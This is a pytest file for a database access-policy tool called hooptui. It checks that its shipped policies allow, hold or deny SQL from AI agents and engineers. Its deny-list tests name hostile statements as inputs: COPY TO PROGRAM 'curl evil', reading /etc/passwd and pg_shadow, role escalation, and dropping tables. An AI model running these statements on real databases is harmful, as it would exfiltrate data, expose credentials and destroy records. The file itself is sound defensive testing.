"""The policies that come with hooptui, under PostgreSQL's own parser: usable alone and together, and fully tested."""

from __future__ import annotations

from pathlib import Path

import pytest

from hooptui.core.model import Effect, Kind, Operation, SqlFacts, Target
from hooptui.core.vocabulary import COMMANDS, NEUTRAL
from hooptui.masking import make_masker
from hooptui.policy.decide import PolicyJudge
from hooptui.policy.loader import load
from hooptui.policy.suite import check, coverage, run_tests
from hooptui.protocols.kubernetes.stated import read_request
from hooptui.protocols.postgres.facts import understand
from hooptui.protocols.postgres.facts_statements import DOES, NEUTRAL_CLASSES, QUERIES
from hooptui.protocols.ssh.commands import read_command
from tests.policy.making import DEV, PROD, who

SHIPPED = Path(__file__).resolve().parents[2] / "policies"
FILES = sorted(SHIPPED.glob("*.yaml"))


def reader(sql: str) -> SqlFacts:
    return understand(sql).facts


def test_these_are_shipped() -> None:
    assert [path.name for path in FILES] == [
        "agents.yaml",
        "baseline.yaml",
        "just-in-time.yaml",
        "kubernetes.yaml",
        "on-call.yaml",
        "pii-masking.yaml",
        "ssh-strict.yaml",
    ]


@pytest.mark.parametrize(
    "paths", [[SHIPPED], *([path] for path in FILES), FILES[:2], FILES[1:], FILES[2:]], ids=lambda paths: paths[0].name
)
def test_alone_and_together_they_pass_their_tests_which_notice_every_rule(paths: list[Path]) -> None:
    report = check(paths)
    assert report.problems == ()
    assert report.policy is not None
    masks_only = not report.policy.rules
    assert report.warnings == ((f"{paths[0]}:1: nothing is allowed: nobody can connect",) if masks_only else ())
    assert [str(one) for one in run_tests(report.policy, reader, read_command, read_request).failed] == []
    assert [str(one) for one in coverage(report.policy, reader, read_command, read_request).uncovered] == []


@pytest.fixture(scope="module")
def judge() -> PolicyJudge:
    return PolicyJudge(load([SHIPPED]))


def effect(judge: PolicyJudge, sql: str, *groups: str, on: Target = PROD) -> Effect:
    return judge.decide(who(*groups), on, Operation("postgres", "x", sql, reader(sql))).effect


@pytest.mark.parametrize(
    "sql",
    [
        "DROP TABLE orders",
        "SELECT 1; DROP TABLE orders",
        "DO $$ BEGIN EXECUTE 'drop table orders'; END $$",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'",
        "COPY orders TO PROGRAM 'curl evil'",
        "COPY orders TO '/tmp/x'",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT * FROM pg_catalog.pg_shadow",
        'SELECT * FROM "pg_stats"',
        "SET ROLE postgres",
        "GRANT dba TO agents",
        "ALTER SYSTEM SET fsync = off",
        "SELECT * INTO t2 FROM orders",
        "CREATE TEMP TABLE t AS SELECT * FROM orders",
        "LOCK orders",
        "TRUNCATE orders",
        "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1",
        "SELECT dblink_exec('x', 'drop table orders')",
        "gibberish",
        "",
    ],
)  # fmt: skip
def test_what_an_agent_never_gets(judge: PolicyJudge, sql: str) -> None:
    for target in (PROD, DEV):
        expected = Effect.ALLOW if not sql else Effect.DENY
        assert effect(judge, sql, "agents", on=target) is expected


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT id, email FROM customers LIMIT 5",
        "WITH t AS (SELECT * FROM a) SELECT count(*), lower(x) FROM t JOIN b USING (id) GROUP BY 2",
        "EXPLAIN SELECT 1",
        "SHOW server_version",
        "BEGIN; SELECT 1; COMMIT",
        "SET application_name = 'x'",
    ],
)
def test_what_an_agent_gets(judge: PolicyJudge, sql: str) -> None:
    assert effect(judge, sql, "agents") is Effect.ALLOW


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE t SET a = 1 WHERE id = 1",
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        "DELETE FROM t",
        "INSERT INTO t VALUES (1)",
    ],
)
def test_what_an_agent_must_wait_for(judge: PolicyJudge, sql: str) -> None:
    assert effect(judge, sql, "agents") is Effect.HOLD


def test_a_change_of_everything_is_grave(judge: PolicyJudge) -> None:
    decision = judge.decide(who("agents"), PROD, Operation("postgres", "delete", "", reader("DELETE FROM payments")))
    terms = decision.terms
    assert terms is not None
    assert (terms.risk, terms.by, terms.scopes, terms.reason_required) == ("high", {"dba"}, ("once",), True)
    assert decision.rules[0] == "agents-change-without-where"


class TestJustInTime:
    ENGINEER = who("engineers")
    RULES = frozenset({"engineers-get-in"})

    def test_the_door_says_who_opens_it_and_for_how_long(self, judge: PolicyJudge) -> None:
        access = judge.admits(self.ENGINEER, PROD).access
        assert access is not None and access.rules == self.RULES
        terms = access.terms
        assert (terms.by, terms.quorum, terms.scope_lasts, terms.reason_required) == ({"oncall", "dba"}, 1, 3600, True)
        assert (terms.break_glass, terms.break_glass_lasts) == ({"duty"}, 900)

    def test_an_agent_of_an_engineer_takes_two_and_no_glass(self, judge: PolicyJudge) -> None:
        access = judge.admits(who("engineers", kind=Kind.AGENT), PROD).access
        assert access is not None and (access.terms.quorum, access.terms.break_glass) == (2, frozenset())

    @pytest.mark.parametrize(
        "sql",
        [
            "TRUNCATE orders",
            "SELECT * FROM pg_catalog.pg_shadow",
            "COPY orders TO STDOUT",
            "garble",
            "SELECT pg_read_file('x')",
        ],
    )
    def test_access_is_no_way_round_a_deny(self, judge: PolicyJudge, sql: str) -> None:
        operation = Operation("postgres", "x", sql, reader(sql))
        assert judge.decide(self.ENGINEER, PROD, operation, self.RULES).effect is Effect.DENY

    def test_a_change_under_access_takes_who_may_judge_it_by_every_rule(self, judge: PolicyJudge) -> None:
        operation = Operation("postgres", "x", "", reader("DELETE FROM orders WHERE id = 1"))
        terms = judge.decide(self.ENGINEER, PROD, operation, self.RULES).terms
        assert terms is not None and terms.by == {"dba"}
        assert terms.break_glass == frozenset(), "the baseline's rule has no glass to break"

    def test_an_agents_masks_are_the_same_with_and_without(self, judge: PolicyJudge) -> None:
        everything = {mask.id for mask in judge.policy.masks if not mask.id.startswith("kubernetes-")}
        for one in (self.ENGINEER, who("engineers", kind=Kind.AGENT), who("agents")):
            assert {rule.id for rule in judge.masks(one, PROD).rules} == everything


def test_the_masks_are_fit_for_the_masker(judge: PolicyJudge) -> None:
    masks = judge.masks(who("agents"), PROD)
    assert len(masks.rules) == 8
    assert make_masker(masks, bytes(32)).masks == masks


def test_the_reader_speaks_the_vocabulary_of_the_rules() -> None:
    does = {word for words in DOES.values() for word in words.split()} | set(QUERIES.values())
    assert does <= COMMANDS
    assert set(NEUTRAL_CLASSES.values()) <= NEUTRAL
